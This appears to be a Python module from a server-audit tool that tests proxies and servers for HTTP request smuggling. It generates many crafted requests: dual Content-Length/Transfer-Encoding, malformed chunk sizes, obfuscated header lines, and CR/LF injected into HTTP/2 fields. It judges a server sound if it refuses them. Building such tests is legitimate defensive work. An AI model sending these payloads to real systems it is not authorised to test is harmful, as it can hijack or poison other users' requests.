"""Requests whose end is in doubt: what one reader takes for a body, the next takes for somebody's request.

Theory of operation. Each message holds a second request with a mark in it. Two signs tell that two readers disagreed:
another connection, of an innocent client, gets an answer that is not its own (the mark, or another status than usual);
or a message that must be refused, or end its connection (RFC 9112 6.1, 6.3), is answered twice. A server that refuses,
or that answers once and shifts nobody, has held.
"""

from __future__ import annotations

import re
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from handfast.audit.insider import Inside, by_client, request_to, talking, versions
from handfast.audit.insider_requests import MARK, NO_HTTP, NO_HTTP2, echoed, h2_asked, h2_head
from handfast.audit.model import (
    Check,
    Evidence,
    Need,
    Outcome,
    Remedies,
    Severity,
    Verdict,
    failed,
    not_applicable,
    passed,
    unclear,
)
from handfast.audit.oracle import End, Reply, worst
from handfast.audit.runner import Audit

_ANSWER = re.compile(rb"HTTP/1\.[01] \d{3} ")
_ATTACK = 2.0  # seconds for one message; who waits for more of it has not been fooled
_MORE = 0.4  # seconds in which a second answer comes, where one comes
_INNOCENT = 2  # requests of the innocent client after each message; a pool has more than one connection

_FRAMING = Remedies(
    handfast="nothing to do: a message whose length is in doubt is answered with 400, and the connection ends",
    nginx="a release from 1.21.1 on, which refuses Content-Length beside Transfer-Encoding; proxy_http_version 1.1",
    haproxy="a current release; no option accept-invalid-http-request; http-reuse never, in doubt",
    envoy="a current release; no allow_chunked_length, reject headers with underscores",
    apache="a current release; HttpProtocolOptions Strict",
)


@dataclass(frozen=True, slots=True)
class _Message:
    """A request in doubt. `once`: by the standard it must be refused, or be the last of its connection."""

    said: str
    raw: bytes
    once: bool = True


@dataclass(frozen=True, slots=True)
class _Field:
    """Where the attack is made: the path asked for, what innocents get there, and whether a shift would show."""

    inside: Inside
    path: str
    usual: int | None
    telling: bool

    @property
    def smuggled(self) -> bytes:
        """The request that nobody may see as one: to the echo with a mark, else to a path that is not there."""
        path = self.path if self.inside.audit.target.echo else f"/{MARK}"
        return request_to(self.inside.audit, path, f"X-Audit: {MARK}")


def _lengths(inside: Inside) -> Outcome:
    return _all(inside, _two_lengths)


def _chunks(inside: Inside) -> Outcome:
    return _all(inside, _odd_chunks)


def _two_lengths(field: _Field) -> Iterator[_Message]:
    smuggled = field.smuggled
    empty, wrapped = b"0\r\n\r\n" + smuggled, b"%x\r\n" % len(smuggled) + smuggled + b"\r\n0\r\n\r\n"
    both = (f"Content-Length: {len(empty)}", "Transfer-Encoding: chunked")
    yield _message(field, "Content-Length over a body that is chunked and ends early (CL.TE)", both, empty)
    yield _message(field, "the same, the other way round", both[::-1], empty)
    short = (f"Content-Length: {len(wrapped.partition(smuggled)[0])}", "Transfer-Encoding: chunked")
    yield _message(field, "Content-Length that ends within a chunk (TE.CL)", short, wrapped)
    lengths = ("Content-Length: 0", f"Content-Length: {len(smuggled)}")
    yield _message(field, "two Content-Lengths, 0 first", lengths, smuggled)
    yield _message(field, "two Content-Lengths, 0 last", lengths[::-1], smuggled)
    size = len(smuggled)
    for value in (
        f"0, {size}",
        f"{size}, 0",
        f"+{size}",
        "-0",
        f"0x{size:x}",
        "0 0",
    ):
        yield _message(field, f"Content-Length: {value}", (f"Content-Length: {value}",), smuggled)
    yield _message(field, "Content-Length behind a bare LF", (f"X-A: b\nContent-Length: {size}",), smuggled, False)
    space = (f"Content-Length : {size}",)
    yield _message(field, "a space before the colon of Content-Length", space, smuggled)


def _odd_chunks(field: _Field) -> Iterator[_Message]:
    smuggled = field.smuggled
    empty = b"0\r\n\r\n" + smuggled
    length = f"Content-Length: {len(empty)}"
    for line in (
        "Transfer-Encoding : chunked",
        "Transfer-Encoding\t: chunked",
        " Transfer-Encoding: chunked",
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: identity, chunked",
        'Transfer-Encoding: "chunked"',
        "Transfer-Encoding:\vchunked",
        "Transfer-Encoding: chunked\0",
        "Transfer-Encoding:\r\n chunked",
        "X-A: b\nTransfer-Encoding: chunked",
        "X-A: b\rTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "Transfer_Encoding: chunked",
    ):
        # What is no Transfer-Encoding at all (the last) leaves a sound message: then two readers are all that tells.
        yield _message(field, f"{line} beside Content-Length", (length, line), empty, "_" not in line)
    chunked = ("Transfer-Encoding: chunked",)
    for said, body in (
        ("a chunk size in C's notation", b"0x1\r\nA\r\n0\r\n\r\n"),
        ("a chunk size with a sign", b"+1\r\nA\r\n0\r\n\r\n"),
        ("a negative chunk size", b"-1\r\nA\r\n0\r\n\r\n"),
        ("a chunk size of 2^64", b"10000000000000000\r\n0\r\n\r\n"),
        ("a chunk size of 2^32", b"100000000\r\n0\r\n\r\n"),
        ("a chunk that is longer than it says", b"1\r\nAAAA\r\n0\r\n\r\n"),
        ("a bare CR behind the chunk size", b"1\rXA\r\n0\r\n\r\n"),
    ):
        yield _message(field, said, chunked, body + smuggled)
    for said, body in (
        ("bare LF behind chunk sizes", b"1\nA\n0\n\n"),
        ("a bare LF in a chunk extension", b"1;a\nA\r\n0\r\n\r\n"),
        ("spaces behind the chunk size", b"1  \r\nA\r\n0\r\n\r\n"),
    ):
        yield _message(field, said, chunked, body + smuggled, once=False)


def _message(field: _Field, said: str, lines: tuple[str, ...], body: bytes, once: bool = True) -> _Message:
    head = request_to(field.inside.audit, field.path, *lines).replace(b"GET ", b"POST ", 1)
    return _Message(said, head + body, once)


def _all(inside: Inside, messages: Callable[[_Field], Iterator[_Message]]) -> Outcome:
    """Send each message, and ask as an innocent after each. The first shift ends it: what follows is shifted too."""
    if not inside.http:
        return not_applicable(NO_HTTP)
    field = _field(inside)
    if isinstance(field, Outcome):
        return field
    tries = []
    for message in messages(field):
        outcome = _one(field, message)
        if outcome.verdict is Verdict.FAIL:
            return outcome
        tries.append(outcome)
    outcome = worst(tries)
    if outcome.verdict is Verdict.PASS:
        return passed(f"{len(tries)} messages were refused, or shifted nobody's answer", *outcome.evidence)
    return outcome


def _field(inside: Inside) -> _Field | Outcome:
    target = inside.audit.target
    path = target.echo or target.path
    first = _asked(inside, request_to(inside.audit, path, "Connection: close"))
    if first.status is None or first.status >= 400:
        return unclear(f"{path} is not answered to a good client ({first}), so nothing is shown")
    unknown = _asked(inside, request_to(inside.audit, f"/{MARK}", "Connection: close"))
    return _Field(inside, path, first.status, target.echo is not None or unknown.status != first.status)


def _one(field: _Field, message: _Message) -> Outcome:
    first, count = _attacked(field, message)
    evidence = Evidence.of(message.said, str(first))
    shifted = _shifted(field)
    if shifted is not None:
        return failed("another client got an answer that was not its own", evidence, shifted)
    if message.once and count > 1:
        return failed(f"a message that must be refused was answered, and {count - 1} more behind it", evidence)
    if _refused(first):
        return passed("refused", evidence)
    if field.telling:
        return passed("nobody's answer was shifted", evidence)
    return unclear("the message was taken, and a shift could not be seen here: name an echo with --echo", evidence)


def _refused(reply: Reply) -> bool:
    if not reply.data:
        return reply.end.value in ("closed", "alert", "reset")
    return reply.status is not None and (400 <= reply.status < 500 or reply.status in (501, 505))


def _attacked(field: _Field, message: _Message) -> tuple[Reply, int]:
    """Send it, and count the answers until it is quiet."""
    audit = field.inside.audit
    offer = audit.offer(field.inside.client, tls12=versions(audit)[0])
    with talking(audit, offer, _ATTACK) as talk:
        first = talk.ask(message.raw)
        data = first.data
        talk.wire.deadline = min(talk.wire.deadline, time.monotonic() + _MORE)
        while first.data:
            more = talk.more()
            data += more.data
            if not more.data:
                break
    return first, len(_ANSWER.findall(data))


def _shifted(field: _Field) -> Evidence | None:
    """What an innocent client got that was not for it; None where all is well."""
    for number in range(_INNOCENT):
        token = f"audit-innocent-{number}"
        reply = _asked(
            field.inside, request_to(field.inside.audit, field.path, f"X-Audit: {token}", "Connection: close")
        )
        marked = MARK.encode() in reply.data
        other = field.inside.audit.target.echo is not None and token.encode() not in reply.data
        if marked or other or reply.status != field.usual:
            return Evidence.of("an innocent client's request, on a connection of its own", str(reply))
    return None


def _asked(inside: Inside, request: bytes) -> Reply:
    return inside.audit.call(inside.client, request=request, tls12=versions(inside.audit)[0])


# From HTTP/2 to HTTP/1.1.


def _from_http2(inside: Inside) -> Outcome:
    """What is one field in HTTP/2 becomes lines in HTTP/1.1, if nobody looks (RFC 9113 8.2.1, 10.3)."""
    if h2_asked(inside, [(h2_head(inside.audit, inside.audit.target.name), b"")]) is None:
        return not_applicable(NO_HTTP2)
    field = _field(inside)
    if isinstance(field, Outcome):
        return field
    tries = []
    for said, head, body in _lines_in_fields(field):
        replies = h2_asked(inside, [(head, body)])
        outcome = _h2_judged(field, said, replies[0] if replies else Reply(False, b"", End.CLOSED))
        if outcome.verdict is Verdict.FAIL:
            return outcome
        tries.append(outcome)
    outcome = worst(tries)
    if outcome.verdict is Verdict.PASS:
        return passed(f"{len(tries)} messages were refused, or shifted nobody's answer", *outcome.evidence)
    return outcome


def _lines_in_fields(field: _Field) -> Iterator[tuple[str, list[tuple[bytes, bytes]], bytes]]:
    audit, injected, smuggled = field.inside.audit, f"X-Audit: {MARK}".encode(), field.smuggled
    head = h2_head(audit, audit.target.name, field.path)
    post = h2_head(audit, audit.target.name, field.path, "POST")
    for said, end in (("CR LF", b"\r\n"), ("a bare LF", b"\n"), ("a bare CR", b"\r")):
        yield f"{said} in a value", [*head, (b"x-a", b"b" + end + injected)], b""
        yield f"{said} in a name", [*head, (b"x-a: b" + end + injected.partition(b":")[0], MARK.encode())], b""
        path = field.path.encode() + b" HTTP/1.1" + end + injected + end + b"X-Rest: "
        yield f"{said} in :path", [(name, path if name == b":path" else value) for name, value in head], b""
        method = b"GET " + field.path.encode() + b" HTTP/1.1" + end + injected + end + b"X-Rest: "
        yield f"{said} in :method", [(name, method if name == b":method" else value) for name, value in head], b""
        host = audit.target.name.encode() + end + injected
        yield f"{said} in :authority", [(name, host if name == b":authority" else value) for name, value in head], b""
    yield "a whole request in a value", [*head, (b"x-a", b"b\r\n\r\n" + smuggled)], b""
    chunked = b"0\r\n\r\n" + smuggled
    yield "Transfer-Encoding", [*post, (b"transfer-encoding", b"chunked")], chunked
    yield "Transfer-Encoding by CR LF", [*post, (b"x-a", b"b\r\nTransfer-Encoding: chunked")], chunked
    yield "Content-Length: 0 over a body", [*post, (b"content-length", b"0")], smuggled
    yield "a space in :path", [(n, v + b" HTTP/1.1" if n == b":path" else v) for n, v in head], b""


def _h2_judged(field: _Field, said: str, reply: Reply) -> Outcome:
    evidence = Evidence.of(f"HTTP/2: {said}", str(reply))
    if any(name.strip().lower() == "x-audit" and MARK in value for name, value in echoed(reply)):
        return failed("a field of HTTP/2 became a line of HTTP/1.1", evidence)
    shifted = _shifted(field)
    if shifted is not None:
        return failed("another client got an answer that was not its own", evidence, shifted)
    if _refused(reply):
        return passed("refused", evidence)
    if field.telling:
        return passed("nobody's answer was shifted", evidence)
    return unclear("the message was taken, and a shift could not be seen here: name an echo with --echo", evidence)


def _check(name: str, attack: str, references: tuple[str, ...], run: Callable[[Audit], Outcome]) -> Check:
    proves = "One client's bytes are never taken for another client's request."
    found = (Need.INSIDER,)
    return Check(f"insider.{name}", attack, proves, Severity.CRITICAL, references, _FRAMING, run, found, seconds=180)


CHECKS = (
    _check(
        "smuggled-by-length",
        "An accepted client sends requests with two lengths, so that the rest becomes somebody else's request.",
        ("RFC 9112 6.3", "CVE-2019-18277", "CVE-2021-40346", "CWE-444"),
        by_client(_lengths),
    ),
    _check(
        "smuggled-by-chunks",
        "An accepted client sends chunks, and codings of them, that two readers read differently.",
        ("RFC 9112 7.1", "CVE-2022-26377", "CVE-2025-55315", "CWE-444"),
        by_client(_chunks),
    ),
    _check(
        "smuggled-by-http2",
        "An accepted client puts line ends and lengths into HTTP/2 fields, which HTTP/1.1 takes for its own.",
        ("RFC 9113 8.2.1", "RFC 9113 10.3", "CVE-2021-36740", "CVE-2022-41721", "CWE-93"),
        by_client(_from_http2),
    ),
)
